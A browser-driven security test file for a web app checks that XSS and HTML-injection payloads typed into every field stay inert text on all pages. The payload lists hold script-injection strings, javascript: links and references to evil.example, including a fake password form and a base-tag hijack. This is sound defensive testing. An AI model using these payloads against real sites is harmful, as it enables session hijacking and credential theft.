// Hostile texts in everything that people can write, and every page that shows them, in a
// real browser: nothing of them becomes an element, an attribute, a script or a request.

import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { addGoal, editBrief, publish, writeBrief } from '../support/briefs.mjs';
import { desktop, openBrowser, openPage, phone } from '../support/browser.mjs';
import { fileCampaign, idOf, movePost, writePost } from '../support/campaigns.mjs';
import { openCall, takePart } from '../support/help.mjs';
import { startInstance } from '../support/instance.mjs';
import { corpus } from '../support/naughty.mjs';
import { addPerson, signIn } from '../support/people.mjs';

const own = [
    '"><img src=x onerror=alert(1)>', '<svg/onload=alert(2)>', "'-alert(3)-'", '</title><script>alert(4)</script>', 'javascript:alert(5)',
    '</textarea><script>alert(6)</script>', '<?cs var:Person.Name ?><b>', '" autofocus onfocus=alert(7) x="', '<a href=javascript:alert(8)>go</a>',
    '<base href=//evil.example>', '<meta http-equiv=refresh content=0;url=//evil.example>', '<iframe src=//evil.example></iframe>',
    '<link rel=stylesheet href=//evil.example/x.css>', '<form action=//evil.example><button>Sign in', '<style>*{display:none}</style>',
    '&lt;script&gt;alert(9)&lt;/script&gt;', '<math><mtext><script>alert(10)</script>', '\u202egnp.exe<img src=//evil.example/p>',
];
const markdown = [
    '[a](javascript\\:alert(1))', '[a](<javascript\\:alert(1)>)', '[b](data\\:text/html,<script>alert(1)</script>)', '![i](//evil.example/i.png)',
    '![i](http://evil.example/i.png "x\\" onerror=alert(1)")', '<img src=//evil.example/i onerror=alert(1)>', '<javascript:alert(1)>', '[c][1]\n\n[1]: javascript\\:alert(1)',
    '~~~ "><script>alert(1)</script>\nx\n~~~', '```"><script>alert(8)</script>\nx\n```', `> %${'a'.repeat(69)}%\n> [x](onmouseover=alert(1))`,
    '<script>alert(1)</script>', '<iframe src=//evil.example></iframe>', '<form action=//evil.example><input name=password><button>Go</button></form>',
    '<p style="position:fixed;inset:0" id="main" onclick=alert(1)>over</p>', '|a|b|\n|-|:-:|\n|<script>|x|', '[d](//evil.example/d)', '<div id="f-title" name="csrf" class="notice">x</div>',
];
const payloads = [...own, ...corpus(60).filter((text) => !/[\u0000-\u001f\u007f]/.test(text) && text.trim() === text)];
const bodies = [...markdown, ...own, ...corpus(150)].filter((text) => !/[\u0000\u00ff]/.test(text));
const rounds = 3;

let instance;
let browser;
let writer;
let helper;
const paths = new Set();

let next = 0;
const line = (most) => [...payloads[next++ % payloads.length]].slice(0, most).join('').trim() || '<b>';
const name = (most) => `<${serialWord()}>${line(most - 12)}`;
let serial = 0;
const serialWord = () => `x${++serial}`;

// One of everything, with a hostile text in each of its fields.
async function writeHostileThings(round) {
    const body = bodies.filter((_, index) => index % rounds === round).join('\n\n');
    const brief = await writeBrief(writer, { title: name(160), summary: line(300), vision: line(1000), body, audience: line(200), key_messages: line(), no_gos: line() });
    const goal = { title: name(160), measure: line(200), unit: line(40) };
    assert.equal((await addGoal(writer, brief, goal)).status, 200);
    assert.equal((await publish(writer, brief, { note: line(300) })).status, 200);
    await editBrief(writer, brief, { title: name(160), vision: line(1000), body: bodies.slice(0, 40).join('\n\n') });
    const published = await publish(writer, brief, { note: line(300) });
    assert.equal(published.path.split('?')[0], brief, published.text.slice(0, 300));
    const [[goalId]] = await instance.sql(`SELECT id FROM goals WHERE brief_id = ${idOf(brief)}`);
    const campaign = await fileCampaign(writer, goalId, { title: name(160), audience: line(300), voice: line(300), message: line(1000), why: [line(300)] });
    const call = await openCall(writer, idOf(campaign), { title: name(160), need: line(2000), done_means: line(500), example: line(1000), topic: line(80) });
    assert.equal((await helper.submit((await helper.get(call)).form(`${call}/offer`), { words: line(500) })).status, 200);
    const [[offer]] = await instance.sql(`SELECT id FROM offers WHERE call_id = ${idOf(call)}`);
    const post = await writePost(writer, campaign, { title: name(200), summary: line(500), body, channel: 1 });
    await movePost(writer, post, 'in_review');
    await movePost(helper, post, 'changes_wanted', { what_worked: line(1000), words: line(2000) });
    const plain = await writePost(writer, campaign, { title: name(200), body: line(200), channel: 3 });
    for (const at of [brief, `${brief}/edit`, `${brief}/history`, `${brief}/changes`, `${brief}/publish`, `${brief}/compare/1/2`, `${brief}/versions/1`,
        `/goals/${goalId}`, `/goals/${goalId}/edit`, campaign, `${campaign}/edit`, `${campaign}/people`, `${campaign}/posts`, call, `${call}/edit`,
        `/help-wanted/offers/${offer}`, post, `${post}/edit`, plain, `${plain}/edit`, `/thread/goals/${goalId}`, `/thread${campaign}`, `/thread${post}`])
        paths.add(at);
}

before(async () => {
    [instance, browser] = await Promise.all([startInstance(), openBrowser()]);
    const ids = {};
    for (const person of ['writer', 'helper'])
        ids[person] = await addPerson(instance, person, 'admin');
    await instance.sql("UPDATE people SET roles = 15");
    writer = await signIn(instance, 'writer');
    helper = await signIn(instance, 'helper');
    await writer.submit((await writer.get('/departments')).form('/departments'), { name: line(80) });
    for (const client of [writer, helper]) {
        const page = await client.submit((await client.get('/me')).form('/me'), { name: name(100), title: line(100), department: 1 });
        assert.equal(page.status, 200);
        await takePart(client, { seen: 1, interests: '<img src=x>, "><b>, onload=' });
    }
    for (let round = 0; round < rounds; round++)
        await writeHostileThings(round);
    for (const at of ['/', '/write', '/briefs', '/campaigns', '/posts', '/help-wanted', '/help-wanted/mine', '/people', '/accounts', '/departments', '/me',
        '/me/sessions', '/volunteer', `/people/${ids.writer}`, `/people/${ids.helper}`, `/accounts/${ids.helper}`, '/search?q=alert', '/search?q=script',
        `/search?q=${encodeURIComponent(own[0])}`, `/people?q=${encodeURIComponent(own[1])}`])
        paths.add(at);
});
after(async () => {
    await browser?.close();
    await instance?.stop();
});

// What of the page is alive though no template of ours made it.
const alive = () => {
    const found = [];
    for (const element of document.querySelectorAll('*')) {
        for (const { name: attribute, value } of element.attributes)
            if (/^(on|srcdoc$|formaction$|ping$|style$)/.test(attribute) && !(attribute === 'style' && element.matches('html, body, [data-grown]')))
                found.push(`<${element.localName} ${attribute}="${value}">`);
        if (element.matches('iframe, object, embed, base, applet, frame, meta[http-equiv], math, marquee, video, audio') || /^x\d+$/.test(element.localName))
            found.push(`<${element.localName}>`);
        for (const attribute of ['href', 'src', 'action', 'xlink:href', 'data', 'poster', 'background']) {
            const value = element.getAttribute(attribute);
            if (value === null || element.closest('a[href]') === element)
                continue;
            const url = new URL(value, document.baseURI);
            if (url.origin !== location.origin && url.protocol !== 'data:')
                found.push(`<${element.localName} ${attribute}="${value}">`);
        }
    }
    for (const script of document.querySelectorAll('script, style, link[rel=stylesheet]'))
        if (!(script.src || script.href || '').startsWith(`${location.origin}/static/`))
            found.push(script.outerHTML.slice(0, 120));
    for (const link of document.links)
        if (!['http:', 'https:', 'mailto:'].includes(link.protocol))
            found.push(link.outerHTML.slice(0, 120));
    for (const form of document.forms)
        if (!/^\/(?!\/)|^$/.test(form.getAttribute('action') ?? ''))
            found.push(form.outerHTML.slice(0, 120));
    const ids = [...document.querySelectorAll('[id]')].map(({ id }) => id);
    for (const id of ids.filter((one, index) => ids.indexOf(one) !== index))
        found.push(`id ${id} twice`);
    return found;
};

async function visit(page, path) {
    const answer = await page.goto(path);
    assert.equal(answer.status(), 200, path);
    assert.match(await page.textContent('body'), /<x\d+>/, `${path} shows them`);
    assert.deepEqual(await page.evaluate(alive), [], path);
    assert.deepEqual(page.problems, [], path);
}

async function watched(options) {
    const page = await openPage(browser, instance, options);
    page.on('dialog', (dialog) => {
        if (dialog.type() !== 'beforeunload')
            page.problems.push(`dialog ${dialog.message()}`);
        dialog.accept();
    });
    return page;
}

describe('hostile texts in a browser', () => {
    for (const [words, options] of [['with scripts', { viewport: desktop }], ['on a phone, dark', { viewport: phone, dark: true }]])
        test(`are only texts on every page, ${words}`, async () => {
            const page = await watched({ person: 'writer', ...options });
            const every = words === 'with scripts' ? 1 : 4;
            assert.ok(paths.size > 70, `${paths.size} pages`);
            for (const path of [...paths].filter((_, index) => index % every === 0))
                await visit(page, path);
            await page.context().close();
        });

    test('are only texts where one signs in', async () => {
        const page = await watched({});
        for (const path of [`/sign-in?next=${encodeURIComponent('/"><script>alert(1)</script>')}`, `/welcome/${encodeURIComponent('"><x9>')}`, '/<script>alert(1)</script>']) {
            await page.goto(path);
            assert.deepEqual(await page.evaluate(alive), [], path);
        }
        assert.deepEqual(page.problems, []);
        await page.context().close();
    });

    test('are only texts in the palette', async () => {
        const page = await watched({ person: 'writer' });
        await page.goto('/');
        for (const words of ['alert', 'script', '<img src=x onerror=alert(1)>']) {
            await page.keyboard.press('Control+k');
            const answered = page.waitForResponse((answer) => new URL(answer.url()).searchParams.get('q') === words);
            await page.locator('dialog[open] input').fill(words);
            await answered;
            await page.waitForFunction(() => document.querySelector('.palette-list').childElementCount > 0);
            assert.deepEqual(await page.evaluate(alive), [], words);
            await page.keyboard.press('Escape');
        }
        assert.deepEqual(page.problems, []);
        await page.context().close();
    });

    test('are only texts in the preview of the editor, and when a form with errors shows them again', async () => {
        const page = await watched({ person: 'writer' });
        for (let at = 0; at < bodies.length; at += 60) {
            await page.goto('/briefs/new');
            await page.fill('[name=body]', bodies.slice(at, at + 60).join('\n\n'));
            await page.click('[data-mode=preview]');
            await page.waitForFunction(() => document.querySelector('.editor-preview').textContent.trim() !== '');
            assert.deepEqual(await page.evaluate(alive), [], `preview from ${at}`);
        }
        await page.goto('/campaigns/new');
        for (const field of ['title', 'audience', 'voice', 'message'])
            await page.fill(`[name=${field}]`, own[5]);
        await Promise.all([page.waitForNavigation(), page.getByRole('button', { name: 'File the campaign' }).click()]);
        assert.equal(await page.inputValue('[name=message]'), own[5]);
        assert.match(await page.title(), /^Error: /);
        assert.deepEqual(await page.evaluate(alive), []);
        assert.deepEqual(page.problems, []);
        await page.context().close();
    });
});
